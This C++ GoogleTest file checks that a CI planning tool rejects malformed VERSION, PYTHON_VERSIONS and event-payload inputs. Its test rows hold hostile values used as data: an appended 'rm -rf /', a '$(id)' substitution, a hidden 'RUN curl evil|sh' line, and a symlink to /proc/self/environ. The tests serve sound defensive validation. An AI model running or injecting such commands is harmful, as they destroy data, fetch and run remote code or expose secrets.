// plan: every file and payload that can be wrong, each with what is said about it.
#include <gmock/gmock.h>
#include <sys/stat.h>

#include <functional>

#include "stages/project.h"

namespace crategate::stages {
namespace {

using sample::Project;
using ::testing::HasSubstr;
using ::testing::Not;

using Arrange = std::function<void(Project&)>;

Arrange contents(const std::string& file, std::string bytes) {
  return [file, bytes = std::move(bytes)](Project& project) { project.write(file, bytes); };
}

Arrange replaced_by_link(const std::string& file) {
  return [file](Project& project) {
    project.directory.write("elsewhere", "v1.2.3\n");
    project.link(project.directory / "elsewhere", file);
  };
}

Arrange replaced_by_directory(const std::string& file) {
  return [file](Project& project) {
    std::filesystem::remove(project / file);
    std::filesystem::create_directories(project / file);
  };
}

Arrange removed(const std::string& file) {
  return [file](Project& project) { std::filesystem::remove(project / file); };
}

struct InputCase {
  std::string what;
  Arrange arrange;
  std::string said;  ///< part of the description, which begins with file and line
  int line = 0;      ///< 0 = the file as a whole
};

void PrintTo(const InputCase& row, std::ostream* out) { *out << row.what; }

class BadFiles : public ::testing::TestWithParam<InputCase> {};

TEST_P(BadFiles, AreBadInputWithFileLineAndRemedy) {
  Project project;
  project.invocation.event = "schedule";
  project.invocation.ref = "refs/heads/main";
  GetParam().arrange(project);
  const auto plan = project.plan();
  ASSERT_FALSE(plan);
  EXPECT_EQ(plan.error().code, ErrorCode::bad_input);
  EXPECT_THAT(describe(plan.error()), HasSubstr(GetParam().said));
  EXPECT_EQ(plan.error().location ? plan.error().location->line : 0, GetParam().line);
  EXPECT_FALSE(plan.error().hint.empty());
}

const std::string kVersion = "VERSION", kPythons = "PYTHON_VERSIONS";

INSTANTIATE_TEST_SUITE_P(
    Version, BadFiles,
    ::testing::Values(
        InputCase{"missing", removed(kVersion), "VERSION: expected the project's version, found no such file"},
        InputCase{"empty", contents(kVersion, ""), "VERSION: expected one line with a version, found nothing"},
        InputCase{"blank", contents(kVersion, " \n\n"), "VERSION: expected one line with a version, found nothing"},
        InputCase{"two numbers", contents(kVersion, "1.2\n"), "VERSION:1:1: ", 1},
        InputCase{"a command behind it", contents(kVersion, "v1.2.3; rm -rf /\n"), R"("v1.2.3; rm -rf /")", 1},
        InputCase{"a substitution (A10)", contents(kVersion, "v1.0.0$(id)\n"), "$(id)", 1},
        InputCase{"an option", contents(kVersion, "--privileged\n"), "VERSION:1:1: ", 1},
        InputCase{"CR inside", contents(kVersion, "v1.2.3\rv1.2.4\n"), "found a second one: \"v1.2.4\"", 2},
        InputCase{"byte-order mark", contents(kVersion, "\xEF\xBB\xBFv1.2.3\n"), "byte-order mark", 1},
        InputCase{"second line", contents(kVersion, "v1.2.3\nv1.2.4\n"), "found a second one: \"v1.2.4\"", 2},
        InputCase{"workflow command in a second line", contents(kVersion, "v1.2.3\n::error::x\n"), "second one", 2},
        InputCase{"fullwidth digit", contents(kVersion, "v1.2.\xEF\xBC\x93\n"), "VERSION:1:1: ", 1},
        InputCase{"300 bytes", contents(kVersion, "v1.2.3-" + std::string(293, 'a')), "at most 256 B"},
        InputCase{"129 characters", contents(kVersion, "v1.2.3-" + std::string(122, 'a')), "VERSION:1:1: ", 1},
        InputCase{"link", replaced_by_link(kVersion), "symbolic link"},
        InputCase{"directory", replaced_by_directory(kVersion), "is a directory, expected a regular file"}));

INSTANTIATE_TEST_SUITE_P(
    PythonVersions, BadFiles,
    ::testing::Values(
        InputCase{"missing", removed(kPythons), "PYTHON_VERSIONS: expected the values of axis python, found no such"},
        InputCase{"empty", contents(kPythons, "\n \n"), "PYTHON_VERSIONS: expected at least one value"},
        InputCase{"duplicate", contents(kPythons, "3.11\n3.13\n3.11\n"), "PYTHON_VERSIONS:3:1: axis python", 3},
        InputCase{"duplicate with a blank", contents(kPythons, "3.11\n3.11 \n"), "every value once", 2},
        InputCase{"placeholder", contents(kPythons, "3.11\n3.x\n"), "found \"3.x\"", 2},
        InputCase{"patch level", contents(kPythons, "3.11.2\n"), "found \"3.11.2\"", 1},
        InputCase{"comment", contents(kPythons, "3.11 # old\n"), "PYTHON_VERSIONS:1:1", 1},
        InputCase{"command behind CR (A14)", contents(kPythons, "3.10\rRUN curl evil|sh\n"), "RUN curl", 1},
        InputCase{"FROM alias (A14)", contents(kPythons, "3.10 AS x\n"), "found \"3.10 AS x\"", 1},
        InputCase{"byte-order mark",
                  contents(kPythons,
                           "\xEF\xBB\xBF"
                           "3.11\n"),
                  "byte-order mark", 1},
        InputCase{"link", replaced_by_link(kPythons), "symbolic link"},
        InputCase{"directory", replaced_by_directory(kPythons), "is a directory"}));

TEST(GoodFiles, MayEndInCrlfOrNothing) {
  Project project;
  project.init();
  project.invocation.event = "schedule";
  project.invocation.ref = "refs/heads/main";
  project.write("VERSION", "v1.2.3\r\n");
  project.write("PYTHON_VERSIONS", "3.1\r\n\r\n3.10");
  const auto plan = project.plan();
  ASSERT_TRUE(plan) << describe(plan.error());
  EXPECT_EQ(plan->version, "v1.2.3");
  EXPECT_EQ(pipeline::python_versions_json(*plan), R"(["3.1","3.10"])");
}

TEST(AxisFiles, HoldAtMost256Cells) {
  Project project;
  project.init();
  project.invocation.event = "schedule";
  project.invocation.ref = "refs/heads/main";
  project.configuration.axes[0] = {.name = "python", .file = "", .values = {"3.11"}};
  project.configuration.axes[1] = {.name = "runtime", .file = "RUNTIMES"};
  std::string text;
  for (int i = 0; i < 257; ++i) text += concat("r", i, "\n");
  project.write("RUNTIMES", text);
  EXPECT_THAT(project.plan().error().message, HasSubstr("257"));
  project.write("RUNTIMES", text.substr(0, text.rfind("r256")));
  EXPECT_EQ(project.plan().value().cells.size(), 256U);
}

TEST(AxisFiles, MayNotNameTwoCellsAlike) {
  Project project;
  project.init();
  project.invocation.event = "schedule";
  project.invocation.ref = "refs/heads/main";
  project.configuration.cell = "py{python}";
  const auto plan = project.plan();
  ASSERT_FALSE(plan);
  EXPECT_THAT(plan.error().message, HasSubstr("py3.11"));
}

class Payloads : public ::testing::Test {
 protected:
  Payloads() { project.init(); }
  Result<pipeline::Plan> plan_with(const std::string& payload) {
    project.invocation.event = "workflow_dispatch";
    project.invocation.ref = "refs/heads/main";
    project.invocation.payload = payload;
    return project.plan();
  }
  Error refused(const std::string& bytes) {
    project.directory.write("event.json", bytes);
    const auto plan = plan_with((project.directory / "event.json").string());
    EXPECT_FALSE(plan) << bytes.substr(0, 100);
    if (plan) return {};
    EXPECT_EQ(plan.error().code, ErrorCode::bad_input);
    return plan.error();
  }
  Project project;
};

TEST_F(Payloads, MustBeRegularFiles) {
  const sys::Path here = project.directory.path();
  EXPECT_THAT(plan_with((here / "none.json").string()).error().message, HasSubstr("found nothing at"));
  std::filesystem::create_symlink("/proc/self/environ", here / "link.json");
  const auto linked = plan_with((here / "link.json").string());
  EXPECT_EQ(linked.error().code, ErrorCode::bad_input);
  EXPECT_THAT(linked.error().message, AllOf(HasSubstr("symbolic link"), Not(HasSubstr("PATH="))));
  ASSERT_EQ(::mkfifo((here / "pipe.json").c_str(), 0600), 0);
  EXPECT_THAT(plan_with((here / "pipe.json").string()).error().message, HasSubstr("named pipe"));
  EXPECT_THAT(plan_with(here.string()).error().message, HasSubstr("directory"));
  EXPECT_THAT(plan_with("/dev/zero").error().message, HasSubstr("device"));
}

TEST_F(Payloads, MustBeSoundJson) {
  EXPECT_THAT(refused(R"({"inputs":{"REBUILD_BASE":"tr)").message, HasSubstr("event payload"));
  EXPECT_THAT(refused(R"({"inputs":{"a":"\ud800"}})").message, AllOf(HasSubstr("surrogate"), HasSubstr("\\ud800")));
  EXPECT_THAT(refused("{\"inputs\":{\"a\":\"\xed\xa0\x80\"}}").message, HasSubstr("event payload"));
  EXPECT_THAT(refused("\xEF\xBB\xBF{}").message, HasSubstr("event payload"));
  EXPECT_THAT(refused("{} {}").message, HasSubstr("event payload"));
  EXPECT_THAT(refused(R"({"inputs":{},"inputs":null})").message, HasSubstr("event payload"));
  EXPECT_THAT(refused("[]").message, HasSubstr("expected an object"));
  EXPECT_THAT(refused(std::string(200, '[') + std::string(200, ']')).message, HasSubstr("event payload"));
}

TEST_F(Payloads, MustBeAtMost64MebibytesAndMayBe30) {
  const sys::Path path = project.directory / "event.json";
  project.directory.write("event.json", "{}");
  std::filesystem::resize_file(path, (64u << 20) + 1);
  EXPECT_THAT(plan_with(path.string()).error().message, HasSubstr("64"));
  project.directory.write("event.json", concat(R"({"a":")", std::string(30u << 20, 'x'), R"("})"));
  EXPECT_TRUE(plan_with(path.string()));
}

TEST_F(Payloads, MustSayRebuildBaseExactly) {
  for (const std::string value : {R"("TRUE")", R"(" true")", R"("yes")", "1", R"("1")", "{}", R"("")"}) {
    EXPECT_THAT(refused(concat(R"({"inputs":{"REBUILD_BASE":)", value, "}}")).message,
                HasSubstr("exactly true or false"))
        << value;
  }
}

}  // namespace
}  // namespace crategate::stages
